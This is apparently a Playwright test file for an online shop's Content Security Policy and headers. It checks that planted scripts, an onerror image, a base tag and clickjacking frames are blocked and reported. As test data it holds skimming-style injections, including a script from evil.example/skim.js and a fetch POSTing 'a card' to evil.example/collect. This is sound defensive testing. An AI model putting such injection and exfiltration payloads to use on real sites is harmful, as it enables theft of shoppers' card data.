import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { APIRequestContext } from '@playwright/test';
import { z } from 'zod';
import { expect, sandboxUrl, test } from './fixtures.ts';
import { open } from './shopper.ts';
import { startSwitchableHost, type SwitchableHost } from './switchable-host.ts';

const arrivalsSchema = z.array(
  z.object({ number: z.int(), kind: z.string(), content: z.looseObject({ page: z.string().optional() }) }),
);

/** What the error service has been told about a page that was kept from something, the latest last. */
async function reportedAbout(request: APIRequestContext, page: string): Promise<readonly object[]> {
  const answer = await request.get(`${sandboxUrl}/telemetry/arrivals`);
  const arrivals = z.array(z.looseObject({ kind: z.string() })).parse(await answer.json());
  return arrivalsSchema
    .parse(arrivals.filter(({ kind }) => kind === 'csp'))
    .flatMap(({ content }) => (content.page?.startsWith(page) ? [content] : []));
}

test.describe('a script that somebody has planted in a page', () => {
  let host: SwitchableHost;
  test.beforeAll(async ({ baseURL }) => {
    host = await startSwitchableHost(baseURL ?? '');
  });
  test.afterAll(() => host.close());
  test.use({ expectedErrors: /Content Security Policy|content security policy/ });

  const plant = (script: string) =>
    host.deploy((path, text) => (path === '/cart/' ? text.replace('<body>', `<body>${script}`) : text));

  test('does not run inline, and the shop hears of it', async ({ page, request }) => {
    plant('<script>document.documentElement.dataset.planted = "inline"</script>');
    await open(page, `${host.origin}/cart/`);
    expect(await page.locator('html').getAttribute('data-planted')).toBeNull();
    await page.goto('about:blank');
    await expect
      .poll(() => reportedAbout(request, `${host.origin}/cart/`))
      .toContainEqual(
        expect.objectContaining({
          directive: 'script-src-elem',
          blocked: 'inline',
          sample: expect.stringContaining('planted'),
        }),
      );
  });

  test('does not run as an attribute of an element', async ({ page }) => {
    plant('<img src="data:," onerror="document.documentElement.dataset.planted = 1">');
    await open(page, `${host.origin}/cart/`);
    expect(await page.locator('html').getAttribute('data-planted')).toBeNull();
  });

  test('does not run from another site, and the shop hears of it', async ({ page, request }) => {
    const asked: string[] = [];
    await page.route('https://evil.example/**', async (route) => {
      asked.push(route.request().url());
      await route.fulfill({
        contentType: 'text/javascript',
        body: 'document.documentElement.dataset.planted = 1',
      });
    });
    plant('<script src="https://evil.example/skim.js"></script>');
    await open(page, `${host.origin}/cart/`);
    expect(await page.locator('html').getAttribute('data-planted')).toBeNull();
    expect(asked).toEqual([]);
    await page.goto('about:blank');
    await expect
      .poll(() => reportedAbout(request, `${host.origin}/cart/`))
      .toContainEqual(
        expect.objectContaining({
          directive: 'script-src-elem',
          blocked: expect.stringContaining('https://evil.example'),
        }),
      );
  });

  test('cannot send what it finds elsewhere, nor change where the page’s addresses lead', async ({
    page,
  }) => {
    plant('<base href="https://evil.example/">');
    await open(page, `${host.origin}/cart/`);
    expect(await page.evaluate(() => document.baseURI)).toBe(`${host.origin}/cart/`);
    const sent = await page.evaluate(() =>
      fetch('https://evil.example/collect', { method: 'POST', body: 'a card' }).then(
        () => 'sent',
        () => 'refused',
      ),
    );
    expect(sent).toBe('refused');
  });
});

test.describe('a page of the shop in the frame of another site', () => {
  test.use({ expectedErrors: /frame-ancestors|content security policy/ });

  test('stays empty, and the shop hears of it', async ({ page, request, baseURL }) => {
    const server = createServer((_, answer) => {
      answer.setHeader('Content-Type', 'text/html');
      answer.end(
        `<!doctype html><title>Win a carrier</title><iframe src="${baseURL}/checkout/?framed"></iframe>`,
      );
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const { port } = server.address() as AddressInfo;
    await page.goto(`http://127.0.0.1:${port}/`);
    const frame = page.frames().find((one) => one !== page.mainFrame());
    await expect.poll(() => frame?.url()).toMatch(/^chrome-error:/);
    await expect(page.frameLocator('iframe').getByRole('heading', { name: 'Checkout' })).toHaveCount(0);
    await page.goto('about:blank');
    // Browsers tell only the origin of what somebody else has framed.
    await expect
      .poll(() => reportedAbout(request, `${baseURL}/`))
      .toContainEqual(expect.objectContaining({ directive: 'frame-ancestors' }));
    server.close();
  });
});

test('every answer of the shop has its headers: pages, redirects, what is missing, and what fails', async ({
  request,
}) => {
  const page = (await request.get('/cart/')).headers();
  expect(page['content-security-policy']).toMatch(/script-src 'self' 'sha256-/);
  const names = Object.keys(page).filter((name) =>
    /^(content-security|cross-origin-opener|permissions-|referrer-|x-content)/.test(name),
  );
  expect(names).toHaveLength(5);
  for (const path of ['/', '/unicorns/', '/cart', '/redirects/gift-guide/', '/.netlify/images', '/app.js']) {
    const headers = (await request.get(path, { maxRedirects: 0 })).headers();
    for (const name of names) expect(headers[name], `${name} of ${path}`).toBe(page[name]);
  }
});
